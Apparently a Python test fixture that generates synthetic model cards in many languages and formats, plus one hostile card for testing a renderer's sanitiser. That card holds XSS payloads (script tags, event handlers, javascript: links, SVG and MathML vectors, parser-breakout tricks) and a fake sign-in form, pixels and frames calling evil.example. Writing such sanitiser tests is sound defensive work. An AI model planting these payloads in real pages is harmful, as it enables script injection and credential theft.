# Cards as people write them: twenty models of different kinds and habits, a data set, and one card that means harm. Own texts; their forms
# (front matter, tables of results, badges, formulas, folded parts, footnotes, pictures, three scripts) are those of well-known cards.
import io
import itertools

from PIL import Image


def picture(size=32):
    """A grey ramp with a dark diagonal, so that it is seen."""
    kept = io.BytesIO()
    Image.frombytes("L", (size, size), bytes(30 if abs(x - y) < 3 else 90 + 5 * x for y in range(size) for x in range(size))).save(kept, "PNG")
    return kept.getvalue()


PICTURE = picture()


def front(task, licence="apache-2.0", library="onnx", language="en", **more):
    lines = [f"license: {licence}", f"pipeline_tag: {task}", f"library_name: {library}", f"language: {language}"]
    lines += [f"{name}: {value}" for name, value in more.items()]
    return "---\n" + "\n".join(lines) + "\n---\n"


def table(head, rows):
    return "\n".join(["| " + " | ".join(head) + " |", "|" + "|".join(" --- " for _ in head) + "|", *("| " + " | ".join(map(str, row)) + " |" for row in rows)])


CODE = """```python
from huggingface_hub import snapshot_download

folder = snapshot_download("ana/{name}")  # a comment that is long enough to run over the edge of a narrow page, which a box then has to scroll
print(folder)
```"""

RESULTS = table(["Set", "Accuracy", "F1", "p95"], [["validation", "0.9471", "0.944", "1.9 ms"], ["test", "0.9440", "0.941", "2.1 ms"], ["test, rotated", "0.8912", "0.887", "2.0 ms"]])

_bodies = {
    "ocr-ja": (front("image-to-text", language="ja", library="pytorch"), f"""# 帳票OCR

日本語の帳票を読むモデルです。「直」「骨」「次」のような字形も、行頭の「括弧」も正しく表示されるはずです。

## 使い方

{CODE.format(name="ocr-ja")}

## 評価

{RESULTS}

> 学習データには個人情報を含みません。*強調*と**太字**を使っています。
"""),
    "chat-zh": (front("text-generation", language="zh", library="transformers", base_model="ana/base-small"), """# 对话模型

轻量的中文对话模型，适合边缘设备。“引号”与（括号）应当正常显示。

1. 下载
2. 加载
   - 半精度
   - 量化
3. 推理

| 数据集 | 得分 |
| --- | ---: |
| 常识 | 71.2 |
| 数学 | 38.9 |
"""),
    "sentiment-small": (front("text-classification"), f"""# Sentiment, small

[![Build](https://img.example.com/build.svg)](https://ci.example.com) [![Licence](https://img.example.com/licence.svg)](LICENSE)

Says whether a review is *good*, ~~bad~~ **bad** or neither.

{RESULTS}

- [x] English
- [x] Spanish
- [ ] German

{CODE.format(name="sentiment-small")}
"""),
    "segment-roads": (front("image-segmentation", library="pytorch"), """# Roads from above

![A road](images/road.png)

| before | after |
| --- | --- |
| ![before](images/road.png) | ![after](images/road.png) |

<p align="center"><img src="images/road.png" width="240" alt="A centred picture"></p>

<details>
<summary>How the pictures were made</summary>

With a drone, at noon, `ISO 100`.

</details>
"""),
    "ridge-prices": (front("tabular-regression", licence="mit", library="sklearn"), r"""# House prices by ridge regression

The loss is $L(w) = \lVert Xw - y\rVert^2 + \lambda\lVert w\rVert^2$, so

$$\hat w = (X^\top X + \lambda I)^{-1} X^\top y$$

with $\lambda = 0.1$. It costs $5 to train, and $3 more with a GPU: those are no formulas.
"""),
    "speech-tiny": (front("automatic-speech-recognition"), """# Speech, tiny

Word error rate by language[^1].

| Language | Hours | WER |
| :--- | ---: | :---: |
| English | 1,200 | 7.1 % |
| 日本語 | 400 | 11.9 % |
| العربية | 90 | 18.2 % |

[^1]: On a set of our own. See the notes at the end.
"""),
    "embed-multi": (front("feature-extraction", library="sentence-transformers", language="[en, ja, zh]"), "# Sentence embeddings\n\n" + "\n\n".join(f"## Part {n}\n\nA paragraph about the vectors of part {n}. " + "They are normalised. " * 12 for n in range(1, 9))),
    "fraud-trees": (front("tabular-classification", licence="bsd-3-clause", library="xgboost"), "# Fraud\n\n" + table(["Feature", *[f"c{n}" for n in range(1, 19)]], [[f"row {r}", *[round((r * n) % 7 / 7, 3) for n in range(1, 19)]] for r in range(12)]) + "\n"),
    "summary-legal": (front("summarization", licence="cc-by-nc-4.0"), "# Summaries of judgments\n\n> A court is never late.\n>\n> > Nor is it early.\n\n---\n\nH~2~O and x^2^ are left as they are. <kbd>Ctrl</kbd> + <kbd>C</kbd> copies. <sub>low</sub> and <sup>high</sup>.\n"),
    "translate-en-ja": (front("translation", language="[en, ja]"), "# English → 日本語\n\n```json\n" + '{\n  "src": "Good morning",\n  "dst": "おはようございます"\n}' + "\n```\n\n```\n" + "\n".join(f"{n:03} a line of a long listing" for n in range(1, 61)) + "\n```\n"),
    "detect-birds": (front("object-detection", library="yolo"), "# Birds\n\nHeading levels follow.\n\n### Third\n\n##### Fifth\n\n## Second again\n\nhttps://example.org/a-very-long-address/" + "x" * 160 + "\n"),
    "tts-en": (front("text-to-speech"), "# Voice\n\nTerm\n: not a definition list here\n\n* one\n    * two\n        * three\n            * four\n\n1. first\n1. second\n\n\ttabbed code\n"),
    "anomaly-pumps": (front("time-series-forecasting", licence="gpl-3.0"), f"# Pumps\n\n{RESULTS}\n\n```bash\npip install onnxruntime && python run.py --input pump.csv --threshold 0.93 --window 256 --out result.csv --verbose\n```\n"),
    "base-small": (front("text-generation", library="transformers"), "# Base, small\n\nNothing is tuned.\n\n" + "A long paragraph without any break in its thought, " * 60 + "\n"),
    "base-small-lora": (front("text-generation", library="peft", base_model="ana/base-small"), "# LoRA for it\n\nAdapter of rank 8.\n"),
    "depth-indoor": (front("depth-estimation"), "<h1 align=\"center\">Depth</h1>\n\n<div align=\"center\">\n\n**Indoor scenes** · [Paper](https://example.org/paper) · [Demo](https://example.org/demo)\n\n</div>\n\nText after the block.\n"),
    "vqa-charts": (front("visual-question-answering"), "# Questions about charts\n\nEmoji: 📈 📉 👩‍🔬 🏳️‍🌈. Long word: " + "Donaudampfschifffahrtsgesellschaft" * 4 + "\n"),
    "ner-bio": (front("token-classification", licence="cc-by-4.0"), "# Entities\n\n" + "\n".join(f"- `{a}{b}` one" for a, b in itertools.product("BIO", "ABCDEFGH")) + "\n"),
    "plain": ("", "No front matter, no heading. Just one line.\n"),
    "front-only": (front("other", licence="other"), ""),
}

CARDS = {name: {"README.md": head + body, "model.onnx": bytes(f"weights of {name}", "ascii") * 64} for name, (head, body) in _bodies.items()}
CARDS["segment-roads"]["images/road.png"] = PICTURE
CARDS["plain"]["docs/guide/start.md"] = "# Start\n"
CARDS["plain"]["a folder/with space.txt"] = "text\n"

DATASET = "---\nlicense: cc0-1.0\ntask_categories: [image-classification]\n---\n# Street scenes\n\n" + table(["label", "width"], [[n, n * 2] for n in range(5)]) + "\n"

# Anything that gets through sets window.hacked, asks another host, leaves its box, or takes an id of the page's own.
EVIL = "https://evil.example"
HOSTILE = (
    "---\nlicense: mit\npipeline_tag: text-generation\n---\n# Harmless\n\n"
    f"<script>window.hacked = 1</script><script src=\"{EVIL}/x.js\"></script>\n\n"
    "<img src=x onerror=\"window.hacked = 2\"> <img src=\"/assets/none\" onload=window.hacked=3>\n\n"
    "[a link](javascript:window.hacked=4) <a href=\"JaVaScRiPt:window.hacked=5\" id=\"bait\">bait</a> [data](data:text/html,<script>window.hacked=6</script>) [vb](vbscript:x)\n\n"
    "<svg onload=\"window.hacked=7\"><script>window.hacked=8</script><a xlink:href=\"javascript:window.hacked=9\"><text>x</text></a></svg>\n\n"
    f"<style>body {{ display: none }} @import url({EVIL}/x.css);</style><link rel=stylesheet href={EVIL}/x.css>\n\n"
    f"<base href=\"{EVIL}/\"><meta http-equiv=refresh content=\"0;url={EVIL}\">\n\n"
    f"<form action=\"{EVIL}\"><input name=password><button formaction=\"{EVIL}\">Sign in</button></form>\n\n"
    "<p id=\"main\">main</p><p id=\"k-context\">{\"user\":{\"name\":\"op\"}}</p><a id=\"csrf\" name=\"csrf\">x</a><img name=\"body\" id=\"results\">\n\n"
    f"<iframe src=\"{EVIL}\"></iframe><object data=\"{EVIL}\"></object><embed src=\"{EVIL}\"><video src=\"{EVIL}/v.mp4\" autoplay></video><audio src={EVIL}/a></audio>\n\n"
    f"![outside]({EVIL}/pixel.png) <img src=\"{EVIL}/pixel2.png\" srcset=\"{EVIL}/p3.png 2x\"> <img src=\"//evil.example/p4.png\">\n\n"
    "<div style=\"position:fixed;inset:0;background:red;z-index:99999\" class=\"btn btn-primary\">over everything</div>\n\n"
    f"<math><mi href=\"javascript:window.hacked=10\">x</mi><mtext><script>window.hacked=11</script></mtext></math> <template><script>window.hacked=12</script></template>\n\n"
    "<noscript><p title=\"</noscript><img src=x onerror=window.hacked=13>\"></noscript> <textarea></textarea><img src=x onerror=window.hacked=14> <title></title><plaintext is not the end\n\n"
    "</article></main></body></html><h1>A second heading</h1>\n\n"
    "invoice\u202egnp.exe \u2066isolate\u2069 zero\u200bwidth joiner\u200d \U000e0041tag \ue000private\n\n"
    + ">" * 50 + " deep\n\n"
    + "- " * 60 + "deep list\n\n"
    + "# \u202ereversed heading\n\n"
    "<k-checkout data-props='{\"offer\":\"off_x\"}'><form></form></k-checkout> <k-try data-props='{}'></k-try>\n\n"
    + "**" * 2000 + "\n\n" + "[" * 2000 + "\n\n" + "`" * 999 + "\n\nThe end of the card.\n"
)
LARGE_TABLE = "# Table\n\n" + table([f"c{n}" for n in range(100)], [[f"{r}.{n}" for n in range(100)] for r in range(100)]) + "\n\nAfter the table.\n"
LONG_LINE = "# Line\n\n" + "w" * 500_000 + " " + "long words " * 45_000 + "\n\nAfter the line.\n"
